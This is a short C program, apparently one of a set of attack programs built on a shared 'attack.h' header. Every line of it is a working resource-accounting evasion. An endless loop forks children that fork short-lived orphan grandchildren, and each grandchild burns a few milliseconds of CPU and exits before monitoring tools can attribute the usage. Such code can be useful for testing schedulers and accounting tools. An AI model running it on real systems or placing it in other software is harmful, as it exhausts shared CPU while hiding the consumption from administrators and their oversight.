/* CPU time in many small pieces: each spent by an orphan that is gone before anybody looks. */
#include "attack.h"

#include <sys/wait.h>
#include <time.h>

static void spend(void)
{
	struct timespec used;

	do
		clock_gettime(CLOCK_PROCESS_CPUTIME_ID, &used);
	while (used.tv_nsec < 5000000 && used.tv_sec == 0);
	_exit(0);
}

int main(void)
{
	for (;;) {
		pid_t child = fork();

		if (child == 0 && fork() == 0)
			spend();
		if (child == 0)
			_exit(0);
		waitpid(child, NULL, 0);
	}
}
